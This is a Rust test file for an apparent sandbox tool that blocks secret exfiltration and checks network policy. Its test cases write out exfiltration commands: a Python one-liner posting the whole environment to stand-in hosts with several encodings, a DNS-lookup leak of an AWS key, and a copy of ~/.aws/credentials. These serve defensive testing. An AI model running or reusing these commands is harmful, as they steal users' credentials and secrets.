//! What goes through, what is taken down, and planted secrets.

use std::io::{Read, Write};
use std::net::TcpListener;

use super::project::Project;

/// Python that posts all of the environment.
fn post(encode: &str, url: &str) -> String {
    format!(
        "/usr/bin/python3 -c \"import os,json,base64,zlib,binascii,urllib.request as u\n\
         d=json.dumps(dict(os.environ)).encode()\n\
         u.urlopen(u.Request('{url}',data={encode}))\""
    )
}

#[test]
fn an_allowed_host_is_reached_and_nothing_is_said() {
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
    let port = listener.local_addr().expect("an address").port();
    let server = std::thread::spawn(move || {
        let (mut stream, _) = listener.accept().expect("a connection");
        let mut bytes = [0; 4096];
        let length = stream.read(&mut bytes).expect("a request");
        stream
            .write_all(b"HTTP/1.0 200 OK\r\n\r\nhello")
            .expect("answered");
        String::from_utf8_lossy(&bytes[..length]).into_owned()
    });
    let project = Project::new();
    let policy = format!(
        "[network]\nallow = [\"index.example\"]\n[network.addresses]\n\"index.example\" = \"127.0.0.1:{port}\"\n"
    );
    project.write("policy.toml", &policy);
    let run = project.run(
        &["--policy", "policy.toml"],
        "/usr/bin/python3 -c \"import urllib.request as u; print(u.urlopen('http://index.example/simple/').read())\"",
    );
    assert!(run.stdout.contains("hello"), "{run:?}");
    assert!(
        run.stderr.contains("✓ CLEAR") && run.stderr.contains("reached index.example"),
        "{run:?}"
    );
    assert!(server.join().expect("served").contains("GET /simple/"));
}

#[test]
fn planted_secrets_that_leave_block_the_run() {
    let project = Project::new();
    for (encode, url, said) in [
        ("d", "http://collect.invalid/c", "(plain)"),
        (
            "base64.b64encode(d)",
            "https://collect.invalid/c",
            "(base64)",
        ),
        (
            "zlib.compress(d)",
            "https://collect.invalid/c",
            "(compressed)",
        ),
        ("binascii.hexlify(d)", "http://1.2.3.4/c", "(hex)"),
        ("d[::-1]", "https://collect.invalid/c", "(reversed)"),
        (
            "bytes(b^7 for b in d)",
            "https://collect.invalid/c",
            "(xor)",
        ),
    ] {
        let run = project.run(&["--commit"], &format!("touch made; {}", post(encode, url)));
        assert_eq!(run.code, Some(1), "{encode}: {run:?}");
        assert!(run.stderr.contains("✗ BLOCK"), "{encode}: {run:?}");
        assert!(
            run.stderr.contains("aws-secret-access-key sent to") && run.stderr.contains(said),
            "{encode}: {run:?}"
        );
        assert!(
            !project.path().join("made").exists(),
            "a blocked run was applied"
        );
        let value = run.stderr.contains("AKIA") || run.stderr.contains("ghp_");
        assert!(!value, "the value stands in the report: {run:?}");
    }
}

#[test]
fn planted_secrets_in_names_arguments_and_files_block_the_run() {
    let project = Project::new();
    for (script, said) in [
        (
            "getent hosts $(printf %s $AWS_ACCESS_KEY_ID | od -An -tx1 | tr -d ' \\n').exfil.invalid",
            "in the name",
        ),
        ("/bin/echo $GITHUB_TOKEN > /dev/null", "in the arguments of"),
        ("cat ~/.aws/credentials > stolen", "written to"),
    ] {
        let run = project.run(&[], script);
        assert_eq!(run.code, Some(1), "{script}: {run:?}");
        assert!(run.stderr.contains(said), "{script}: {run:?}");
    }
}

#[test]
fn the_record_is_chained() {
    use sha2::{Digest, Sha256};
    let project = Project::new();
    project.run(
        &["--report", "r.ndjson"],
        "getent hosts evil.invalid; echo x > file",
    );
    let text = project.read("r.ndjson").expect("written");
    let mut previous = String::new();
    for line in text.lines() {
        let value: serde_json::Value = serde_json::from_str(line).expect("JSON");
        assert_eq!(value["previous"], previous, "{line}");
        previous = Sha256::digest(line.as_bytes())
            .iter()
            .map(|byte| format!("{byte:02x}"))
            .collect();
    }
    assert!(
        text.contains("\"event\":\"name\"")
            && text.contains("\"line\":\"change\"")
            && text.contains("\"line\":\"end\""),
        "{text}"
    );
}

#[test]
fn a_policy_that_is_misspelt_runs_nothing() {
    let project = Project::new();
    project.write("policy.toml", "[network]\nalow = []\n");
    let run = project.run(&["--policy", "policy.toml"], "echo ran");
    assert_eq!((run.code, run.stdout.as_str()), (Some(2), ""), "{run:?}");
    assert!(run.stderr.contains("alow"), "{run:?}");
}
